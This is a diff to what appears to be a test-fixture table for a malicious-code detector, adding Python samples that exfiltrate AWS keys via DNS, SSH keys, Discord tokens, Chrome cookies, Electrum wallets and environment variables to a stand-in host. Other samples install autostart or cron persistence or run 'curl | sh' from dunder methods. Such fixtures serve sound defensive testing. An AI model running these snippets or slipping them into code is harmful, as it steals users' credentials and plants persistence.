@@ -190,6 +190,41 @@ AT_IMPORT = {
         "import os\nclass B:\n    def __init_subclass__(cls):\n"
         "        os.system('curl -s http://x.invalid/a | sh')\nclass K(B):\n    pass\n"
     ),
+    # stealers and persistence written the way the rules' path patterns once missed
+    "cloud key spelled into a DNS query": (
+        "import os, socket, base64\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
+        "socket.gethostbyname(base64.b32encode(k.encode()).decode().strip('=') + '.x.invalid')\n"
+    ),
+    "ssh key written to a socket": (
+        "import os, socket\ns = socket.create_connection(('x.invalid', 443))\n"
+        "s.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
+    ),
+    "Discord store named by joined parts": (
+        "import os, glob, requests\n"
+        "d = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+        "for p in glob.glob(os.path.join(d, '*.ldb')):\n"
+        "    requests.post('http://x.invalid/c', data=open(p, 'rb').read())\n"
+    ),
+    "Linux Chrome cookies uploaded": (
+        "import os, requests\np = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
+        "requests.post('http://x.invalid/c', files={'f': open(p, 'rb')})\n"
+    ),
+    "Electrum wallet uploaded": (
+        "import os, requests\np = os.path.expanduser('~/.electrum/wallets/default_wallet')\n"
+        "requests.post('http://x.invalid/c', files={'f': open(p, 'rb')})\n"
+    ),
+    "environment posted by curl": (
+        "import os, json, subprocess\n"
+        "subprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/c'])\n"
+    ),
+    "desktop autostart entry": (
+        "import os\nopen(os.path.expanduser('~/.config/autostart/upd.desktop'), 'w')"
+        ".write('[Desktop Entry]\\nExec=python3 -m demo\\n')\n"
+    ),
+    "cron table piped into crontab": (
+        "import subprocess\n"
+        "subprocess.run('(crontab -l; echo \"@reboot python3 -m demo\") | crontab -', shell=True)\n"
+    ),
     "credentials posted to a webhook": (
         "import os, requests\nc = open(os.path.expanduser('~/.aws/credentials')).read()\n"
         "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': c})\n"
@@ -223,16 +258,14 @@ AT_IMPORT = {
         f"import os\nclass K:\n    def __getattr__(self, name):\n        return os.system({COMMAND})\nK().x\n"
     ),
     "comparison": (
-        f"import os\nclass K:\n    def __eq__(self, other):\n        return os.system({COMMAND})\n"
-        f"K() == 0\n"
+        f"import os\nclass K:\n    def __eq__(self, other):\n        return os.system({COMMAND})\nK() == 0\n"
     ),
     "f-string field": (
         f"import os\nclass K:\n    def __format__(self, spec):\n        os.system({COMMAND})\n"
         f"        return ''\nk = K()\nf'{{k}}'\n"
     ),
     "operator": (
-        f"import os\nclass K:\n    def __radd__(self, other):\n        return os.system({COMMAND})\n"
-        f"1 + K()\n"
+        f"import os\nclass K:\n    def __radd__(self, other):\n        return os.system({COMMAND})\n1 + K()\n"
     ),
     "module __getattr__": f"import os\ndef __getattr__(name):\n    os.system({COMMAND})\n",
     "lambda bound to a name": f"import os\nrun = lambda: os.system({COMMAND})\nrun()\n",
